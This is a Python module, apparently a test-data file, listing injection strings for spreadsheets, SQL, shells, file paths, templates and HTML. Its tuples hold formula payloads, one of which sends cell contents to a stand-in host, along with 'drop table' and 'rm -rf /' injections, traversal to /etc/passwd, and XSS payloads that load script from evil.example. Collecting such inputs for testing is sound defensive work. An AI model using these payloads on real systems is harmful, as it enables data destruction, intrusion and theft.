"""Texts that a spreadsheet, a database, a shell, a file system or a browser might take for more than texts."""

# fmt: off
SIGNS = (
    "=", "+", "-", "@", '\t', '\r', '\n', "＝", "＋", "－", "＠", "−",
)
BEFORE = (
    "", " ", "  ", "'", '"', "''", '\xa0', '\u200b', '\ufeff', "“", '\u3000', "' ",
)
FORMULAS = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"ada")', "SUM(A1:A9)", "WEBSERVICE(A1)",
)
NAMES = (
    "'; drop table facts.members; --", "Robert'); drop schema facts cascade; --", "' or '1'='1",
    "x' union select 1 --", '"', "'", "`", "\\", "\\\\", "\\n", "\\'", '\\"', "a\\", "';", "/* ada */", "-- ben",
    "$$ cyd $$", "$1", "$name", "?", "${HOME}", "$(id)", "`id`", "; rm -rf /", "| cat", "&& true", "> /tmp/x", "%s",
    "%n%n", "%(ada)s", "{0}", "{ada}", "{{ 7 * 7 }}", "{% raw %}", "#{ada}", "{{config}}", "%0a%0d", "NULL", "null",
    "NaN", "00123", "TRUE", "1e999", "ʼ", "~", "*", "x,y;z", 'a\tb', "ÅÄÖ ß ﬁ", "𝔸𝕕𝕒", "日本語",
    '\U0001f600\U0001f469\u200d\U0001f4bb', "[1, 2]", "(select 1)", "::int", "a''b", 'a""b',
)
PATHS = (
    "../../x", "..", ".", "/etc/x", "~root", "con", "CON", "prn", "aux", "nul", "com1", "lpt9", "nul.txt", "a/b",
    "a\\b", "..\\..\\x", "C:\\x", "C:", "\\\\host\\share", "file:///etc/passwd", 'a\x00b', 'a\nb', "a b", " a", "a ",
    "a.", ".a", "a" * 64, "b" * 300, "-a", "_a", "A", "é", "é", 'a\u200bb', "a%2fb", "a%00b", "a;b", "a|b", "a*b",
    "a?b", "$HOME", "`id`", "a:b", '"a"', "<a>", 'a\u202eb', "index.html", "current", "..;/x", "....//x", "ａ", "٣",
)
MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "</title><script>1</script>", '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='",
    "javascript:alert(1)", "<a href=javascript:1>x</a>", "<iframe src=//evil.example>",
    "<style>*{display:none}</style>", "<!-- ada", "--> ben", "<![CDATA[x]]>", "&lt;b&gt;", "&#60;script&#62;",
    "<b>bold</b>", "</h1><h1>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0>",
    "<form action=//evil.example><input>", "<object data=x>", "<embed src=x>", "<link rel=stylesheet href=//evil>",
    "[x](javascript:alert(1))", "![x](http://evil.example/x.png)", "# heading", "**bold**", "`code`", "| a | b |",
    '```\nx\n```', "<details open ontoggle=alert(1)>", "<math><mi xlink:href=javascript:1>", "{{ cycler.__init__ }}",
    "<scr<script>ipt>", "<SCRIPT SRC=//evil.example/x.js>", "\\u003cscript\\u003e", "%3Cscript%3E", "<x y=`z`>",
    "&amp;", "</style><script>1</script>", "<textarea>", "</p></main>", "<plaintext>",
    "<table><td background=javascript:1>",
)
# fmt: on
